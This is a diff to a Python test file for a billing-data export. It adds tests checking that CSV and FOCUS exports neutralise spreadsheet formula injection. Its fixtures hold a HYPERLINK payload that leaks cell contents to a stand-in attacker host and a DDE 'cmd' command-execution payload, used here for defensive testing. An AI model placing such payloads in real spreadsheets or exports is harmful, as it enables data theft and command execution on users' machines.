@@ -66,9 +66,11 @@ def test_focus_totals_and_columns_equal_tokenmeter_report(warehouse_settings, wh
         assert row["BillingPeriodStart"] == "2025-05-01T00:00:00Z" and row["BillingPeriodEnd"] == "2025-06-01T00:00:00Z"
         assert row["ChargePeriodStart"] < row["ChargePeriodEnd"] and row["ChargePeriodStart"].startswith("2025-05-")
         assert row["BilledCost"] == row["EffectiveCost"] == row["ListCost"] == row["ContractedCost"]
-        assert row["ServiceProviderName"] in ("openai", "anthropic") and row["ConsumedUnit"] == "Tokens"
-        assert int(row["ConsumedQuantity"]) == int(row["x_InputTokens"]) + int(row["x_OutputTokens"])
-        assert row["ResourceId"] == f"{row['ServiceProviderName']}/{row['ResourceName']}"
+        assert row["ServiceProviderName"] in ("OpenAI", "Anthropic") and row["HostProviderName"] == row["ServiceProviderName"]
+        if row["ConsumedUnit"]:
+            assert row["ConsumedUnit"] == "Tokens" and row["PricingUnit"] == "1000000 Tokens"
+            assert Decimal(row["PricingQuantity"]) * 1_000_000 == Decimal(row["ConsumedQuantity"])
+        assert row["ResourceId"] == f"{row['ResourceId'].split('/')[0]}/{row['ResourceName']}"
         assert set(orjson.loads(row["Tags"])) == {"team", "env"} and row["SubAccountType"] == "team+tag:env"
 
 
@@ -90,3 +92,39 @@ def test_csv_and_parquet_are_exact(wh, month_data):
         export_month(wh, "2025-13", "csv", [])
     with pytest.raises(WarehouseError, match="format"):
         export_month(wh, "2025-05", "xlsx", [])
+
+
+FORMULAS = {"team": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "project": "+1+1", "user": "-2+3",
+            "feature": "@SUM(A1:A9)", "api_key": "\tkey", "org": "formula-org"}
+
+
+def test_csv_text_cells_never_run_as_formulas_and_numbers_stay_numbers(wh, make_event):
+    """Issue 11 item 10: a team named `=HYPERLINK(...)` was written as-is, a live formula in Excel/Sheets."""
+    event = make_event("formula-0", "formula-org", team=FORMULAS["team"], cost="0.000123000000",
+                       ts="2024-02-10T10:00:00Z")
+    event["attribution"].update({k: v for k, v in FORMULAS.items() if k not in ("team", "org")})
+    event["attribution"]["tags"] = {"env": "=1+2"}
+    wh.insert_priced([event])
+    dims = ["team", "project", "user", "feature", "api_key", "tag:env"]
+    rows = list(csv.DictReader(io.StringIO(export_month(wh, "2024-02", "csv", dims).decode())))
+    row = next(r for r in rows if r["events"] == "1" and r["user"].endswith("-2+3"))
+    for dim in ("team", "project", "user", "feature", "api_key"):
+        assert row[dim] == "'" + FORMULAS[dim], dim
+    assert row["tag:env"] == "'=1+2"
+    assert row["cost_usd"] == "0.000123000000" and row["input_tokens"] == "100"  # numeric columns untouched
+    focus = list(csv.DictReader(io.StringIO(export_month(wh, "2024-02", "focus", ["team"]).decode())))
+    ours = [r for r in focus if "HYPERLINK" in r["SubAccountName"]]
+    # FOCUS 1.3 has one row per SKU (token kind): the call's cost is their sum, each cell a plain number
+    assert ours and sum(Decimal(r["BilledCost"]) for r in ours) == Decimal("0.000123000000")
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in focus + rows for cell in r.values())
+
+
+def test_report_csv_neutralises_formulas_but_keeps_negative_numbers():
+    import polars as pl
+
+    from warehouse.report import render_report
+
+    frame = pl.DataFrame({"team": ["=cmd|' /C calc'!A0", "ok"], "difference": [Decimal("-1.5"), Decimal("2")]})
+    rows = list(csv.reader(io.StringIO(render_report(frame, "csv"))))
+    assert rows[1][0] == "'=cmd|' /C calc'!A0"
+    assert rows[1][1].startswith("-1.5")  # a negative number is a number, not a formula: no quote
